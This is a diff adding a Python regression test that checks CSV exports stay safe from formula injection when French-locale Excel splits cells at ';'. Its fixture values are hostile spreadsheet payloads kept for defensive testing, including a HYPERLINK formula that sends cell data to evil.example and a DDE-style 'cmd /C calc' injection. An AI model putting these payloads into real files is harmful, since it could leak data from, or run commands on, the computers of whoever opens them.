@@ -1,0 +1,95 @@
+"""A CSV export opened with a double click in French (or Spanish, Portuguese...) Excel runs no
+formula.
+
+Where the list separator is ";", Excel opens a .csv file by splitting every line at each ";",
+whatever the commas and quotes say. A note typed as "Réunion;=HYPERLINK(...)" was written as
+it is (csv quotes only fields with a comma, a quote or a new line), and the text after the ";"
+became a cell of its own, a live formula, in the manager's spreadsheet. Now what follows a ";"
+is guarded as a cell's start is (a leading "'"), and an import takes it off again.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import re
+from pathlib import Path
+from uuid import uuid4
+
+from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
+
+from bot.forms.definitions import FORMS
+from bot.reports_io import FORMS_BY_KIND, ImportResult, export_reports, import_reports, parse_rows
+from models.queries import ensure_user
+from models.reports import NewReport, insert_reports
+
+TODAY = dt.date(2026, 11, 28)
+NOW = dt.datetime(2026, 11, 28, 12, 0, tzinfo=dt.UTC)
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+TEXTS = (
+    {"notes": 'Réunion avec le juge;=HYPERLINK("http://evil.example/?"&A1,"Détails")'},
+    {"notes": "Atelier, suivi;@SUM(1+1)*cmd|' /C calc'!A0", "partner": "UNICEF;+1+1"},
+    {"place": "Jacmel;Cayes;－2+3", "partner": "Plan;-5"},  # "-5,,R-G31FBG,..." to Excel
+)
+TRAINING_ROW = {
+    "kind": "training",
+    "country": "HT",
+    "place": "Jacmel",
+    "field": "justice",
+    "target_group": "police",
+    "training_type": "session",
+    "national_programme": "no",
+    "start_date": "2026-04-14",
+    "duration_unit": "hours",
+    "duration": "6.5",
+    "participants_women": "20",
+    "participants_men": "9",
+    "participants_other": "1",
+}
+
+
+async def _store(session: AsyncSession) -> None:
+    (base,), errors = parse_rows([TRAINING_ROW], today=TODAY)
+    assert errors == []
+    author = await ensure_user(session, 5550001, "Officier", "fr")
+    form = FORMS_BY_KIND["training"]
+    reports = [
+        NewReport(
+            id=uuid4(),
+            kind="training",
+            form_id=form.id,
+            form_version=FORMS[form.id].version,
+            author_user_id=author.id,
+            answers={**base.answers, **text},
+            computed=base.computed,
+        )
+        for text in TEXTS
+    ]
+    await insert_reports(session, reports, now=NOW)
+    await session.commit()
+
+
+def _as_french_excel_splits(path: Path) -> list[str]:
+    """The cells of a double-clicked .csv where the list separator is ";": each line cut at
+    every ";" (a cell that starts with a quote is read as quoted text)."""
+    text = path.read_text(encoding="utf-8-sig")
+    return [cell.removeprefix('"') for line in text.splitlines() for cell in line.split(";")]
+
+
+def _runs(cell: str) -> bool:
+    return cell.startswith(TRIGGERS) and re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell) is None
+
+
+async def test_no_cell_after_a_semicolon_runs_and_the_export_imports_back_unchanged(
+    session_factory: async_sessionmaker[AsyncSession], tmp_path: Path
+) -> None:
+    async with session_factory() as session:
+        await _store(session)
+    path = tmp_path / "rapports.csv"
+    async with session_factory() as session:
+        assert await export_reports(session, path, date_from=None, date_to=None) == 3
+
+    assert [cell for cell in _as_french_excel_splits(path) if _runs(cell)] == []
+    async with session_factory() as session:
+        author = await ensure_user(session, 5550001, "Officier", "fr")
+        again = await import_reports(session, path, author_user_id=author.id, today=TODAY, now=NOW)
+    assert again == ImportResult(created=0, unchanged=3, errors=[])  # the same text came back
